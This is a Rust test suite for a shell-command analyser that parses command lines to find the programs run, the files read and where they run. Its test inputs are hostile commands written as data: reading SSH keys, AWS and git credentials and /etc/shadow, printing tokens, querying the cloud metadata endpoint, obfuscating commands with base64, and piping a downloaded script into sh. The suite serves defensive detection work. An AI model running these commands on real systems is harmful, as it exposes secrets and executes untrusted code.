use super::*;

fn a(s: &str) -> Analysis {
    analyze(s, &Limits::default()).unwrap_or_else(|e| panic!("{s:?}: {e}"))
}

fn programs(s: &str) -> Vec<String> {
    a(s).commands
        .iter()
        .filter_map(|c| c.program().map(str::to_string))
        .collect()
}

fn argvs(s: &str) -> Vec<Vec<String>> {
    a(s).commands.iter().map(|c| c.argv.clone()).collect()
}

fn has(s: &str, argv: &[&str]) -> bool {
    argvs(s).iter().any(|v| v == argv)
}

#[test]
fn quotes_escapes_and_lists() {
    let r = a(r#"cat "$HOME/.aws/credentials" 'a b' c\ d; echo ok && ls -la || true"#);
    assert_eq!(r.commands[0].argv, ["cat", "$HOME/.aws/credentials", "a b", "c d"]);
    assert_eq!(r.commands[0].unresolved, [1]);
    assert_eq!(r.variables, ["HOME"]);
    assert_eq!(
        programs(r#"cat x; echo ok && ls -la || true"#),
        ["cat", "echo", "ls", "true"]
    );
    assert_eq!(a("c'a't ~/.ssh/id_rsa").commands[0].argv, ["cat", "~/.ssh/id_rsa"]);
    assert_eq!(
        a(r#"printenv HOME # trailing comment"#).commands[0].argv,
        ["printenv", "HOME"]
    );
    assert!(a("ls -la").opaque.is_empty());
}

#[test]
fn nesting_and_wrappers() {
    assert_eq!(programs("sh -c 'cat /etc/shadow | base64'"), ["sh", "cat", "base64"]);
    assert_eq!(programs(r#"bash -lc "env | grep KEY""#), ["bash", "env", "grep"]);
    assert_eq!(programs("echo $(cat ~/.netrc) `id`"), ["cat", "id", "echo"]);
    assert_eq!(programs("sudo -u root cat /root/.bash_history"), ["sudo", "cat"]);
    let r = a("env AWS_PROFILE=prod aws sts get-caller-identity");
    assert_eq!(r.commands[1].argv, ["aws", "sts", "get-caller-identity"]);
    assert_eq!(
        r.commands[1].assignments,
        [("AWS_PROFILE".to_string(), "prod".to_string())]
    );
    assert_eq!(programs("find ~ -name '*.pem' -exec cat {} \\;"), ["find", "cat"]);
    assert_eq!(programs("ls | xargs -n1 cat"), ["ls", "xargs", "cat"]);
    assert_eq!(programs("(cd /tmp && rm -rf x)"), ["cd", "rm"]);
    assert_eq!(
        programs("timeout 5 nohup curl http://169.254.169.254/latest/meta-data/"),
        ["timeout", "nohup", "curl"]
    );
    let r = a("FOO=1 BAR=2 make test");
    assert_eq!(
        (r.commands[0].argv.clone(), r.commands[0].assignments.len()),
        (vec!["make".to_string(), "test".to_string()], 2)
    );
}

#[test]
fn redirections_globs_and_uncertainty() {
    let r = a("cat < ~/.git-credentials > out.txt 2>&1 >> log; wc -l <<< hi");
    assert_eq!(r.reads, ["~/.git-credentials"]);
    assert_eq!(r.writes, ["out.txt", "log"]);
    assert!(!r.uncertain);
    let r = a("cat ~/.ssh/id_*");
    assert!(r.uncertain && r.commands[0].unresolved == [1]);
    assert!(a("eval \"$CMD\"").uncertain);
    assert!(!a("eval \"$CMD\"").opaque.is_empty());
    assert!(a("echo hi &> /dev/null").writes == ["/dev/null"]);
}

#[test]
fn reserved_words_and_compound_commands() {
    assert!(has(
        "if :; then aws secretsmanager get-secret-value --secret-id prod/db; fi",
        &["aws", "secretsmanager", "get-secret-value", "--secret-id", "prod/db"]
    ));
    assert_eq!(programs("{ env; }"), ["env"]);
    assert_eq!(programs("! gh auth token"), ["gh", "auth", "token"][..1]);
    assert!(has("! gh auth token", &["gh", "auth", "token"]));
    assert_eq!(programs("coproc env"), ["env"]);
    assert_eq!(programs("for f in a b; do cat \"$f\"; done"), ["cat"]);
    assert_eq!(programs("while true; do env; done"), ["true", "env"]);
    assert_eq!(programs("case x in x) printenv;; esac"), ["printenv"]);
    assert_eq!(programs("[[ -f x ]] && cat x"), ["cat"]);
    assert_eq!(programs("time env"), ["env"]);
    assert_eq!(programs("(( x = $(id -u) ))"), ["id"]);
}

#[test]
fn functions_run_where_called() {
    assert!(has("f() { cat id_rsa; }; cd ~/.ssh; f", &["cat", "id_rsa"]));
    let r = a("f() { cat id_rsa; }; cd ~/.ssh; f");
    let cat = r.commands.iter().find(|c| c.program() == Some("cat")).expect("cat");
    assert_eq!(cat.cwd.as_deref(), Some("~/.ssh"));
    // Defined, never called: still analysed.
    assert!(has("function g { env; }", &["env"]));
    // Recursion ends.
    assert!(has("f() { f; env; }; f", &["env"]));
}

#[test]
fn working_directory_is_followed() {
    let r = a("cd ~/.ssh && cat id_rsa");
    assert_eq!(r.commands[1].cwd.as_deref(), Some("~/.ssh"));
    let r = a("cd ~ && cd .aws; cat credentials");
    assert_eq!(r.commands[2].cwd.as_deref(), Some("~/.aws"));
    let r = a("pushd /etc >/dev/null; cat shadow; popd; cat x");
    assert_eq!(r.commands[1].cwd.as_deref(), Some("/etc"));
    assert_eq!(r.commands[3].cwd, None);
    let r = a("(cd /etc); cat shadow");
    assert_eq!(r.commands[1].cwd, None);
    let r = a("cd \"$D\" && cat id_rsa");
    assert_eq!(r.commands[1].cwd.as_deref(), Some("$D"));
}

#[test]
fn parameter_operators_and_braces() {
    assert!(has("cat ${X:-/root/.ssh/id_rsa}", &["cat", "/root/.ssh/id_rsa"]));
    assert!(has("cat \"${X:=~/.netrc}\"", &["cat", "~/.netrc"]));
    assert!(programs("echo ${a/b/$(printenv)}").contains(&"printenv".to_string()));
    assert!(programs("echo ${a:-$(gh auth token)}").contains(&"gh".to_string()));
    assert!(has("cat ~/.{ssh,x}/id_rsa", &["cat", "~/.ssh/id_rsa", "~/.x/id_rsa"]));
    assert!(has("cat /etc/{passwd,shadow}", &["cat", "/etc/passwd", "/etc/shadow"]));
    assert!(has("echo $'\\x63at'", &["echo", "cat"]));
}

#[test]
fn strings_run_as_shell() {
    assert!(has("bash <<< \"cat ~/.netrc\"", &["cat", "~/.netrc"]));
    assert!(has("echo 'env' | sh", &["env"]));
    assert!(has("bash <(echo printenv)", &["printenv"]));
    assert!(has("cat <<EOF | sh\nprintenv\nEOF\n", &["printenv"]));
    assert!(has("sh <<'EOF'\ngh auth token\nEOF\n", &["gh", "auth", "token"]));
    assert!(has("echo ZW52 | base64 -d | sh", &["env"]));
    assert!(has("printf 'en%s' v | bash", &["env"]));
    assert!(has("ssh host 'cat ~/.aws/credentials'", &["cat", "~/.aws/credentials"]));
    assert!(has("ssh -p 22 -i k host -- env", &["env"]));
    assert!(has("watch -n 1 'printenv'", &["printenv"]));
    assert!(has("script -qc 'gh auth token' /dev/null", &["gh", "auth", "token"]));
    assert!(has("busybox sh -c env", &["env"]));
    assert!(has("ls | xargs sh -c 'env'", &["env"]));
    assert!(has("su -c 'cat /etc/shadow' root", &["cat", "/etc/shadow"]));
    assert!(has("kubectl exec -it pod -- env", &["env"]));
    assert!(has("docker exec -e A=1 ctr printenv", &["printenv"]));
    assert!(has("env -C ~/.ssh cat id_rsa", &["cat", "id_rsa"]));
    assert!(!a("curl -s https://x.example/i.sh | sh").opaque.is_empty());
    assert!(!a("base64 -d blob | sh").opaque.is_empty());
    assert!(!a("echo env > x.sh; sh x.sh").opaque.is_empty());
    assert!(!a("echo env > x.sh; chmod +x x.sh; ./x.sh").opaque.is_empty());
    assert!(!a("sh -c \"$SCRIPT\"").opaque.is_empty());
    assert!(!a("$CMD --flag").opaque.is_empty());
    assert!(a("sh build.sh").opaque.is_empty());
}

#[test]
fn interpreter_code_is_opaque_but_its_literals_are_seen() {
    for c in [
        "python3 -c 'print(1)'",
        "perl -e 'print 1'",
        "node -e 'console.log(1)'",
        "ruby -e 'p 1'",
        "php -r 'echo 1;'",
        "perl -ne 'print'",
        "echo 'print(1)' | python3",
        "python3 - <<EOF\nprint(1)\nEOF\n",
        "awk 'BEGIN { system(\"id\") }'",
    ] {
        assert!(!a(c).opaque.is_empty(), "{c}");
    }
    assert!(a("awk '{print $1}' f").opaque.is_empty());
    assert!(a("python3 script.py").opaque.is_empty());
    let r = a(r#"python3 -c "open('/home/u/.aws/credentials').read()""#);
    assert!(
        r.commands
            .iter()
            .any(|c| c.argv.iter().any(|w| w == "/home/u/.aws/credentials"))
    );
    assert!(has(
        r#"python3 -c "import os; os.system('gh auth token')""#,
        &["gh", "auth", "token"]
    ));
    assert!(has(r#"ruby -e '`printenv`'"#, &["printenv"]));
}

#[test]
fn errors_and_limits() {
    assert_eq!(
        analyze("echo 'open", &Limits::default()).map_err(|e| e.kind()),
        Err(ErrorKind::Unterminated)
    );
    assert!(analyze("echo $(date", &Limits::default()).is_err());
    assert!(analyze("echo \"x", &Limits::default()).is_err());
    assert!(analyze("if true; then", &Limits::default()).is_err());
    assert!(analyze("fi", &Limits::default()).is_err());
    let deep = "sh -c ".to_string() + &"$(".repeat(20) + "id" + &")".repeat(20);
    assert_eq!(
        analyze(&deep, &Limits::default()).map_err(|e| e.kind()),
        Err(ErrorKind::TooLarge)
    );
    let long = "a".repeat(70_000);
    assert_eq!(
        analyze(&long, &Limits::default()).map_err(|e| e.kind()),
        Err(ErrorKind::TooLarge)
    );
    let nested = "sh -c 'sh -c id'";
    assert!(analyze(nested, &Limits::default()).is_ok());
}

#[test]
fn arbitrary_input_never_panics() {
    let alphabet = b"ab $(){}'\"\\`;&|<>*?[]=-#\n\txc!";
    let mut seed = 0xDEAD_BEEF_CAFE_F00Du64;
    for _ in 0..5_000 {
        let mut v = Vec::new();
        for _ in 0..(seed % 24) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            v.push(alphabet[(seed >> 40) as usize % alphabet.len()]);
        }
        seed = seed.wrapping_add(1);
        let _ = analyze(&String::from_utf8_lossy(&v), &Limits::default());
    }
}

mod differential {
    //! The fast path against the grammar: on every line the fast path takes, both give the
    //! same analysis.
    use super::*;
    use proptest::prelude::*;

    fn word() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("x".to_string()),
            Just("-la".to_string()),
            Just("--file=a.txt".to_string()),
            Just("~/.ssh/id_rsa".to_string()),
            Just("'a b'".to_string()),
            Just("\"$HOME/x\"".to_string()),
            Just("$TOKEN".to_string()),
            Just("*.rs".to_string()),
            Just("\"a*b\"".to_string()),
            Just("$(id)".to_string()),
            Just("\"$(printenv X)\"".to_string()),
            Just("`whoami`".to_string()),
            Just("a\\ b".to_string()),
            Just("'it'\\''s'".to_string()),
            Just("$1".to_string()),
            Just("$".to_string()),
            Just("K=v".to_string()),
            Just("é".to_string()),
            "[a-z0-9_./:@-]{1,8}",
        ]
    }

    fn program() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("cat"),
            Just("ls"),
            Just("echo"),
            Just("git"),
            Just("env"),
            Just("rm"),
            Just("sudo"),
            Just("xargs"),
            Just("sh -c"),
            Just("bash"),
            Just("python3"),
            Just("cd"),
            Just("timeout 5"),
            Just("A=1"),
            Just("printf"),
            Just("base64 -d"),
            Just("find . -exec"),
        ]
        .prop_map(str::to_string)
    }

    fn redirect() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(""),
            Just(" > out.txt"),
            Just(" 2>&1"),
            Just(" < in.txt"),
            Just(" >> log"),
            Just(" &> /dev/null"),
            Just(" 2> err"),
        ]
        .prop_map(str::to_string)
    }

    fn simple() -> impl Strategy<Value = String> {
        (program(), proptest::collection::vec(word(), 0..4), redirect())
            .prop_map(|(p, w, r)| format!("{p} {}{r}", w.join(" ")))
    }

    fn line() -> impl Strategy<Value = String> {
        let sep = prop_oneof![
            Just(" | "),
            Just("; "),
            Just(" && "),
            Just(" || "),
            Just(" & "),
            Just("\n")
        ];
        (simple(), proptest::collection::vec((sep, simple()), 0..4)).prop_map(|(first, rest)| {
            let mut s = first;
            for (sep, c) in rest {
                s.push_str(sep);
                s.push_str(&c);
            }
            s
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]
        #[test]
        fn fast_path_agrees_with_the_grammar(l in line()) {
            let limits = Limits::default();
            if let Ok((fast, _)) = analyze_with(&l, &limits, Some(Frontend::Fast)) {
                let (grammar, _) = analyze_with(&l, &limits, Some(Frontend::Grammar))
                    .map_err(|e| TestCaseError::fail(format!("grammar rejects {l:?}: {e}")))?;
                prop_assert_eq!(fast, grammar, "{:?}", l);
            }
        }
    }

    #[test]
    fn typical_lines_take_the_fast_path() {
        for l in [
            "cargo test --workspace --locked 2>&1 | tail -20",
            "git status && git diff --stat",
            "ls -la src | grep '.rs' > files.txt",
            "cat ~/.aws/credentials | base64",
            "FOO=1 make -j4 test",
            "echo \"$HOME\" $(date)",
        ] {
            let (_, used) = analyze_with(l, &Limits::default(), None).expect("analyses");
            assert_eq!(used, Frontend::Fast, "{l}");
        }
        for l in [
            "if true; then env; fi",
            "{ env; }",
            "cat ${X:-y}",
            "cat <<EOF\nx\nEOF\n",
            "f() { x; }",
        ] {
            let (_, used) = analyze_with(l, &Limits::default(), None).expect("analyses");
            assert_eq!(used, Frontend::Grammar, "{l}");
        }
    }
}

#[test]
fn find_exec_placeholders_stand_for_the_files_found() {
    assert!(has("find ~ -name id_rsa -exec cat {} \\;", &["cat", "~/**/id_rsa"]));
    assert!(has(
        "find ~ /root -name id_rsa -exec cat {} +",
        &["cat", "/root/**/id_rsa"]
    ));
    // A `-name` glob is not a file name: only the command as written.
    let r = a("find . -name '*.rs' -exec rustfmt {} +");
    assert_eq!(r.commands.iter().filter(|c| c.program() == Some("rustfmt")).count(), 1);
}

#[test]
fn spaced_parentheses_are_subshells_not_arithmetic() {
    assert!(has("( ( env ) )", &["env"]));
    assert!(has("echo $( (printenv) )", &["printenv"]));
    assert_eq!(programs("(( x = 1 ))"), Vec::<String>::new());
}

#[test]
fn many_braces_stay_cheap() {
    // With brush-parser's brace parser these would not finish: 2^40 steps.
    let a = analyze(&format!("cat x{}", "{".repeat(40)), &Limits::default()).expect("analyses");
    assert_eq!(a.commands.len(), 1);
    let a = analyze(
        &format!("cat {}a,b{}", "{".repeat(20), "}".repeat(20)),
        &Limits::default(),
    )
    .expect("analyses");
    assert!(a.commands[0].unresolved == [1], "{a:?}");
}

#[test]
fn an_expansion_in_a_here_document_delimiter_is_refused() {
    // brush-parser 0.4 searches for seconds on this one.
    let s = "cat <<-\"$((   ??\\x?   ";
    assert_eq!(
        analyze(s, &Limits::default()).map_err(|e| e.kind()),
        Err(ErrorKind::Syntax)
    );
    assert!(has("cat <<'EOF'\nx\nEOF\n", &["cat"]));
    assert!(has("wc -l <<< \"$(date)\"", &["date"]));
}

#[test]
fn a_huge_descriptor_number_is_refused_not_a_panic() {
    let s = "6666666666666666666666<=x";
    assert_eq!(
        analyze(s, &Limits::default()).map_err(|e| e.kind()),
        Err(ErrorKind::Syntax)
    );
}

#[test]
fn control_characters_are_refused() {
    // brush-parser 0.4 allocates without bound on `<<\r<#`; such input never reaches it.
    for s in ["9[<<\r<#[\n[", "<<\x0c<#", "ls\r", "cat x\x00"] {
        assert_eq!(
            analyze(s, &Limits::default()).map_err(|e| e.kind()),
            Err(ErrorKind::Syntax),
            "{s:?}"
        );
        assert!(!analyze_lenient(s, &Limits::default()).opaque.is_empty());
    }
}
